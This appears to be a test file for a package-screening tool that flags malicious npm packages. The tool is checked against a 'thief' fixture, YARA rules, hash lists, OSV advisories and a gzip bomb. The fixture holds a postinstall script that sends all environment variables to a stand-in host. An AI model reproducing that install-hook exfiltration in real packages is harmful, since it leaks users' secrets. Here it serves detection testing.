// SPDX-License-Identifier: Apache-2.0
import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, test } from 'node:test'
import { gzipSync } from 'node:zlib'
import { openCommandLine } from '../../test/command-line.ts'

const folder = mkdtempSync(join(tmpdir(), 'screen-'))
after(() => rmSync(folder, { recursive: true }))
const commandLine = openCommandLine(folder)
const screen = (...words: string[]) => commandLine({}, 'screen', ...words)

function write(name: string, files: Record<string, string>): string {
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(join(folder, name, path, '..'), { recursive: true })
    writeFileSync(join(folder, name, path), text)
  }
  return join(folder, name)
}

const thief = {
  'package/package.json': '{"name":"a","version":"1.0.1","scripts":{"postinstall":"node set-up"}}',
  'package/set-up.js': 'require("https").request("https://x.invalid").end(JSON.stringify(process.env))',
}

test('a folder that holds package/ is screened, in words and as JSON, and links are not followed', async () => {
  const path = write('thief', thief)
  symlinkSync(path, join(path, 'package', 'loop'))
  const told = await screen(path, '--json')
  assert.equal(told.code, 1, told.err)
  const { verdict, findings } = JSON.parse(told.out)
  assert.equal(verdict, 'hold')
  assert.deepEqual(Object.keys(findings[0]), ['rule', 'file', 'line', 'excerpt', 'why'])
  assert.deepEqual(
    [findings[0].rule, findings[0].file, findings[0].line],
    ['environment-exfiltration', 'set-up.js', 1],
  )
  assert.match((await screen(path)).out, /sends all environment variables[\s\S]*hold, score/)
})

test('what passes exits with 0, and what was there before weighs less', async () => {
  const clean = write('clean', {
    'package.json': '{"name":"a","version":"1.0.0"}',
    'index.js': 'exports.a = 1',
  })
  assert.equal((await screen(clean, '--json')).code, 0)
  const path = write('thief', thief)
  const score = async (...words: string[]) => JSON.parse((await screen(path, '--json', ...words)).out).score
  assert.ok((await score('--previous', clean)) > (await score()))
  assert.ok((await score('--previous', path)) < (await score()))
})

test('rules and lists of digests of a folder count too, and those that cannot be read are told', async () => {
  const clean = write('ruled', {
    'package.json': '{"name":"a","version":"1.0.0"}',
    'index.js': 'exports.a = 1',
  })
  const rules = (name: string, files: Record<string, string>) => ['--rules', write(name, files)]
  const told = await screen(
    clean,
    '--json',
    ...rules('yara', { 'a.yar': 'rule found { strings: $a = "exports.a" condition: $a }' }),
  )
  assert.deepEqual([told.code, JSON.parse(told.out).findings[0].rule], [1, 'yara:found'])
  const digest = createHash('sha256').update('exports.a = 1').digest('hex')
  assert.equal((await screen(clean, ...rules('list', { 'a.hashes': `${digest} bad\n` }))).code, 1)
  const broken = await screen(clean, ...rules('broken', { 'a.yar': 'rule {' }))
  assert.equal(broken.code, 2)
  assert.match(broken.err, /a\.yar/)
  assert.equal((await screen(clean, '--rules', join(folder, 'nothing'))).code, 2)
})

test('what an advisory about malware names is held: a version, and bytes by their digest', async () => {
  const path = write('advised', {
    'package.json': '{"name":"a","version":"1.0.0"}',
    'index.js': 'exports.a = 2',
  })
  const advise = (name: string, record: object) => write(name, { 'one.json': JSON.stringify(record) })
  const about = (pkg: string, more: object = {}) => ({
    id: 'MAL-2026-1',
    modified: '2026-01-01T00:00:00Z',
    affected: [{ package: { ecosystem: 'npm', name: pkg }, versions: ['1.0.0'], ...more }],
  })
  const rulesOf = async (osv: string) => {
    const { code, out, err } = await screen(path, '--json', '--osv', osv)
    assert.equal(err, '')
    return [code, ...JSON.parse(out).findings.map((each: { rule: string }) => each.rule)]
  }
  assert.deepEqual(await rulesOf(advise('named', about('a'))), [1, 'known-malware'])
  const sha256 = [createHash('sha256').update('exports.a = 2').digest('hex')]
  const database_specific = {
    'malicious-packages-origins': [{ source: 'a', sha256: sha256[0] }],
    iocs: { sha256 },
  }
  assert.deepEqual(await rulesOf(advise('hashed', { ...about('b'), database_specific })), [1, 'known-hash'])
  assert.deepEqual(
    await rulesOf(advise('weak', { ...about('a'), id: 'GHSA-aaaa-bbbb-cccc', database_specific })),
    [0],
  )
  assert.equal((await screen(path, '--osv', join(folder, 'nowhere'))).code, 2)
})

test('bytes that are no package are held, and wrong words exit with 2', async () => {
  const path = join(folder, 'bomb.tgz')
  writeFileSync(path, gzipSync(Buffer.alloc(8_000_000)))
  const told = await screen(path, '--json')
  assert.deepEqual([told.code, JSON.parse(told.out).findings[0].rule], [1, 'unreadable-package'])
  for (const words of [[], [join(folder, 'nothing')], [folder]])
    assert.equal((await screen(...words)).code, 2)
})
